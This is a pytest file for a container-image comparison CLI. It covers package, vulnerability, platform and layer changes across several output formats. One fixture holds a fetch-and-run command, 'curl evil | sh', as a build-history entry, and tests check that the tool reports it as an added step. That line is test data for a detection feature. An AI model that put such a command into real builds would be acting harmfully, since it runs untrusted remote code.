"""`basewatch diff` of images in a real registry, in every format, and when it cannot be done."""

import gzip
import json
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator

from bot.cli import main
from tests.servers.between import between
from tests.servers.layered import AMD64, ARM64, image, push
from tests.servers.registry import layer
from tests.test_evidence_end_to_end import NEW, OLD, OS, PASSWD, RECORDS, record

pytestmark = pytest.mark.registry

SCHEMA = json.loads(
    (Path(__file__).parents[2] / "docs/schemas/diff.schema.json").read_text("utf-8")
)


def files(packages, *programs):
    status = "".join(
        f"Package: {name}\nStatus: install ok installed\nVersion: {version}\nArchitecture: amd64\n\n"
        for name, version in packages.items()
    )
    there = {"etc/os-release": OS, "etc/passwd": PASSWD, "var/lib/dpkg/status": status.encode()}
    return layer(there | {f"usr/bin/{name}": b"#!" for name in programs})


@pytest.fixture(scope="module")
def pushed(open_registry):
    base = open_registry.base_url
    old = {
        platform: image([files(OLD, "wget")], platform=platform, config={"User": "www-data"})
        for platform in (AMD64, ARM64)
    }
    new = {
        platform: image([files(NEW)], platform=platform, config={"User": "root"})
        for platform in (AMD64, ARM64)
    }
    push(base, "diff/app", "1.0.0", old)
    push(base, "diff/app", "1.0.1", new)
    push(base, "diff/app", "alone", {AMD64: new[AMD64]})
    return f"{open_registry.host}/diff/app"


@pytest.fixture
def diff(open_registry, tmp_path, monkeypatch, capsys):
    """Run it; gives the exit code, and what it printed."""
    records = tmp_path / "records"
    records.mkdir()
    for name, said in RECORDS.items():
        (records / f"{name}.json").write_text(json.dumps(record(name, *said)))
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "no-logins"))
    monkeypatch.setenv("BASEWATCH_LEDGER", "off")
    config = tmp_path / "operator.yaml"
    config.write_text(
        f"registries:\n  '{open_registry.host}': {{insecure: true}}\n"
        f"evidence:\n  enabled: false\n  cache: {tmp_path / 'cache'}\n  scanners: [osv]\n"
        f"  osv: {{records: [{records}]}}\n  database_days: 3650\n  notes: {{sources: [recipe]}}\n"
    )

    def run(*words):
        code = main(["diff", *map(str, words), "--config", str(config)])
        said = capsys.readouterr()
        return code, said.out, said.err

    return run


def test_two_images_are_compared_in_words(pushed, diff):
    code, out, err = diff(f"{pushed}:1.0.0", f"{pushed}:1.0.1")
    assert (code, err) == (0, "")
    assert "Packages: 4 → 4" in out
    assert "openssl 3.0.11-1~deb12u2 → 3.0.15-1~deb12u1" in out
    assert "Fixes 1 vulnerability" in out
    assert "user www-data → root" in out


def test_markdown_has_the_same_and_more(pushed, diff):
    code, out, _ = diff(f"{pushed}:1.0.0", f"{pushed}:1.0.1", "--format", "markdown")
    assert code == 0
    assert out.startswith(f"# `{pushed}:1.0.0` → `{pushed}:1.0.1`\n")
    assert "| [`openssl`](https://tracker.debian.org/pkg/openssl) |" in out
    assert "<details><summary>Vulnerabilities introduced (1)</summary>" in out


@pytest.mark.parametrize("words", [["--json"], ["--format", "json"]])
def test_json_is_what_its_schema_says(pushed, diff, words):
    code, out, _ = diff(f"{pushed}:1.0.0", f"{pushed}:1.0.1", *words)
    found = json.loads(out)
    Draft202012Validator(SCHEMA).validate(found)
    assert code == 0
    assert found["kind"] == "patch"
    rows = {row["id"]: row["class"] for row in found["vulnerabilities"]["rows"]}
    assert rows["CVE-2024-1001"] == "fixed"
    assert rows["CVE-2024-1002"] == "present"
    assert rows["CVE-2024-1003"] == "introduced"


def test_sarif_and_cyclonedx_are_for_other_tools(pushed, diff):
    refs = (f"{pushed}:1.0.0", f"{pushed}:1.0.1")
    sarif = json.loads(diff(*refs, "--format", "sarif")[1])
    assert {result["ruleId"] for result in sarif["runs"][0]["results"]} >= {"CVE-2024-1003"}
    old, new = (
        json.loads(diff(*refs, "--format", "cyclonedx", "--side", side)[1])
        for side in ("old", "new")
    )
    versions = [
        {c["name"]: c.get("version") for c in found["components"]}["openssl"]
        for found in (old, new)
    ]
    assert versions == [OLD["openssl"], NEW["openssl"]]


def test_what_a_build_file_needs_is_held_against_the_new_image(pushed, diff, tmp_path):
    (tmp_path / "Dockerfile").write_text(f"FROM {pushed}:1.0.0\nRUN wget https://example.org\n")
    words = (f"{pushed}:1.0.0", f"{pushed}:1.0.1", "--used-by", tmp_path / "Dockerfile", "--json")
    (needs,) = json.loads(diff(*words)[1])["broken"]
    assert (needs["line"], needs["needs"]) == (2, "wget")


def test_sarif_has_paths_from_where_the_command_was_started(pushed, diff, tmp_path, monkeypatch):
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "Dockerfile").write_text(f"FROM {pushed}:1.0.0\n")
    monkeypatch.chdir(tmp_path)
    words = (f"{pushed}:1.0.0", f"{pushed}:1.0.1", "--used-by", "app", "--format", "sarif")
    (run,) = json.loads(diff(*words)[1])["runs"]
    places = [place["physicalLocation"] for one in run["results"] for place in one["locations"]]
    assert {place["artifactLocation"]["uri"] for place in places} == {"app/Dockerfile"}


def test_files_that_build_on_something_else_are_told_of(pushed, diff, tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM node:20\n")
    code, _, err = diff(f"{pushed}:1.0.0", f"{pushed}:1.0.1", "--used-by", tmp_path / "Dockerfile")
    assert code == 0
    assert f"nothing under {tmp_path}/Dockerfile builds on {pushed}" in err


def test_all_platforms_are_opened_where_that_is_asked(pushed, diff):
    code, out, _ = diff(f"{pushed}:1.0.0", f"{pushed}:1.0.1", "--all-platforms", "--json")
    found = json.loads(out)
    Draft202012Validator(SCHEMA).validate(found)
    assert code == 0
    assert found["new"]["platform"] == "linux/amd64"
    assert [other["new"]["platform"] for other in found["others"]] == ["linux/arm64"]


@pytest.mark.parametrize("name", ["sarif", "cyclonedx"])
def test_a_document_of_one_platform_is_not_made_of_several(pushed, diff, name):
    sides = (f"{pushed}:1.0.0", f"{pushed}:1.0.1", "--format", name)
    code, out, err = diff(*sides, "--all-platforms")
    assert (code, out) == (2, "")
    assert err == (
        f"basewatch: {name} is about one platform, and they have linux/amd64, linux/arm64:"
        " name it by --platform\n"
    )
    assert diff(*sides, "--platform", "linux/arm64")[0] == 0


def test_a_platform_that_one_of_them_lacks_cannot_be_compared(pushed, diff):
    code, out, err = diff(f"{pushed}:1.0.0", f"{pushed}:alone", "--platform", "linux/arm64")
    assert (code, out) == (2, "")
    assert err.startswith("basewatch: ")
    assert "linux/arm64" in err


@pytest.fixture(scope="module")
def half(open_registry, pushed):
    """Two images, of which the new one has a layer for arm64 that cannot be read."""
    base = open_registry.base_url
    whole = {p: image([files(OLD)], platform=p) for p in (AMD64, ARM64)}
    torn = {
        AMD64: image([files(NEW)]),
        ARM64: image([gzip.compress(b"no archive" * 100)], platform=ARM64),
    }
    push(base, "diff/half", "1.0.0", whole)
    push(base, "diff/half", "1.0.1", torn)
    return f"{open_registry.host}/diff/half"


def test_platforms_that_can_be_read_are_shown_beside_one_that_cannot(half, diff):
    sides = (f"{half}:1.0.0", f"{half}:1.0.1", "--all-platforms")
    code, out, err = diff(*sides)
    assert code == 2
    assert "Packages: 4 → 4" in out
    (line,) = err.splitlines()
    assert line.startswith(f"basewatch: linux/arm64 was not compared: {half}")
    assert line.endswith("; try again, or name those that you want by --platform")
    code, out, _ = diff(*sides, "--json")
    found = json.loads(out)
    Draft202012Validator(SCHEMA).validate(found)
    assert (code, found["platform"], "others" in found) == (2, "linux/amd64", False)
    assert f"{half}@sha256:" in found["unavailable"]["others.linux/arm64"]


def test_no_platform_that_can_be_read_is_nothing_to_show(half, diff):
    sides = (f"{half}:1.0.0", f"{half}:1.0.1")
    code, out, err = diff(*sides, "--platform", "linux/arm64", "--platform", "linux/s390x")
    assert (code, out) == (2, "")
    assert "was not compared" not in err
    assert len(err.splitlines()) == 2


def test_an_image_that_is_not_there_is_told_in_one_line(pushed, diff):
    code, out, err = diff(f"{pushed}:1.0.0", f"{pushed}:9", "--all-platforms")
    assert (code, out) == (2, "")
    assert len(err.splitlines()) == 1
    assert f"{pushed}:9" in err


def test_documents_of_one_image_are_there_though_nothing_changed(pushed, diff):
    same = (f"{pushed}:1.0.1", f"{pushed}:1.0.1", "--format")
    code, out, _ = diff(*same, "cyclonedx")
    assert (code, len(json.loads(out)["components"]) > 1) == (0, True)
    assert diff(f"{pushed}:1.0.0", f"{pushed}:1.0.1", "--format", "cyclonedx")[1] == out
    code, out, _ = diff(*same, "sarif")
    (run,) = json.loads(out)["runs"]
    assert (code, run["invocations"][0]["toolExecutionNotifications"]) == (0, [])
    assert {each["baselineState"] for each in run["results"]} == {"unchanged"}


def test_what_is_no_reference_is_refused(diff):
    code, _, err = diff("UPPER", "node:20")
    assert code == 2
    assert err == (
        "basewatch: 'UPPER' has upper-case letters in its name, which no registry accepts\n"
    )


def test_the_exit_code_tells_whether_they_differ(pushed, diff):
    assert diff(f"{pushed}:1.0.0", f"{pushed}:1.0.1", "--exit-code")[0] == 1
    assert diff(f"{pushed}:1.0.1", f"{pushed}:1.0.1", "--exit-code")[0] == 0


def test_an_image_beside_itself_is_told_to_be_the_same(pushed, diff):
    code, out, _ = diff(f"{pushed}:1.0.1", f"{pushed}:1.0.1")
    assert code == 0
    assert "the same image" in out


# ------------------------------------------------------------------------------ what changed, and what it costs


STEP = {"created_by": "ADD rootfs / # buildkit"}
EVIL = {"created_by": "RUN /bin/sh -c curl evil | sh # buildkit"}


@pytest.fixture(scope="module")
def layered(open_registry):
    """Two images without an index; the new one has a layer more, and the same packages."""
    base, lowest = open_registry.base_url, files(OLD)
    more = {"created": "2024-11-12T00:00:00Z", "history": [STEP, EVIL]}
    sides = {
        "1.0.0": image([lowest], created="2024-10-01T00:00:00Z", history=[STEP]),
        "1.0.1": image([lowest, layer({"srv/x": b"x"})], **more),
    }
    digests = {tag: push(base, "diff/layered", tag, {AMD64: side}) for tag, side in sides.items()}
    return "diff/layered", digests


def test_a_layer_more_and_the_step_that_made_it_are_told(layered, diff, open_registry):
    name = f"{open_registry.host}/{layered[0]}"
    _, out, _ = diff(f"{name}:1.0.0", f"{name}:1.0.1")
    assert "The packages are the same, but 1 layer was put on top of them." in out.replace(
        "\n", " "
    )
    assert "Layers: 1 → 2 (1 as before, 1 new)" in out
    assert "Build steps: 1 added\n  + RUN /bin/sh -c curl evil | sh\n" in out
    assert "Made (as they say): 2024-10-01 → 2024-11-12" in out
    _, page, _ = diff(f"{name}:1.0.0", f"{name}:1.0.1", "--format", "markdown")
    assert "| Layers | 1 | 2 (1 as before, 1 new) |" in page
    assert "* **added** `RUN /bin/sh -c curl evil | sh`" in page
    found = json.loads(diff(f"{name}:1.0.0", f"{name}:1.0.1", "--json")[1])
    Draft202012Validator(SCHEMA).validate(found)
    assert found["layers"] | {"new_size": 0} == {
        "shared": 1, "old": 1, "new": 2, "old_size": 0, "new_size": 0, "fresh": 1,
    }  # fmt: skip
    assert found["steps"] == [
        {"change": "added", "old": None, "new": "RUN /bin/sh -c curl evil | sh"}
    ]


def test_a_tag_that_goes_back_is_said_to(layered, diff, open_registry):
    name = f"{open_registry.host}/{layered[0]}"
    _, out, _ = diff(f"{name}:1.0.1", f"{name}:1.0.0")
    assert "An older version: the tag went back from 1.0.1 to 1.0.0." in out.replace("\n", " ")


def test_nothing_is_asked_for_twice(layered, diff, open_registry, tmp_path):
    repository, digests = layered
    with between(open_registry.base_url) as server:
        config = tmp_path / "operator.yaml"
        said = config.read_text().replace(open_registry.host, server.host)
        config.write_text(said.replace("enabled: false", "enabled: false\n  provenance: false"))
        by_tag = [f"{server.host}/{repository}:{tag}" for tag in digests]
        by_digest = [f"{server.host}/{repository}@{digest}" for digest in digests.values()]

        def asked(refs):
            server.asked.clear()
            assert diff(*refs)[0] == 0
            return sorted(path for _, path in server.asked if path != "/v2/")

        first, again = asked(by_tag), asked(by_tag)
        blobs = [path for path in first if "/blobs/" in path]
        assert len(blobs) == 4 == len({*blobs})  # two configurations, two layers
        assert (
            again
            == [path for path in first if path not in blobs]
            == [f"/v2/{repository}/manifests/{tag}" for tag in digests]
        )
        assert asked(by_digest) == []


def test_another_platform_than_the_usual_is_said_to_be_compared(diff, open_registry):
    base, name = open_registry.base_url, f"{open_registry.host}/diff/elsewhere"
    for tag, platforms in (("1.0.0", (AMD64, ARM64)), ("1.0.1", (ARM64, "linux/riscv64"))):
        sides = {p: image([files(OLD)], platform=p, config={"User": tag}) for p in platforms}
        push(base, "diff/elsewhere", tag, sides)
    _, out, _ = diff(f"{name}:1.0.0", f"{name}:1.0.1")
    assert "This is about linux/arm64." in out.replace("\n", " ")
    assert "! linux/amd64 was not compared, as the new image is not made for it" in out
    assert "Platforms: + linux/riscv64, - linux/amd64" in out
    assert "(linux/arm64) → " in out
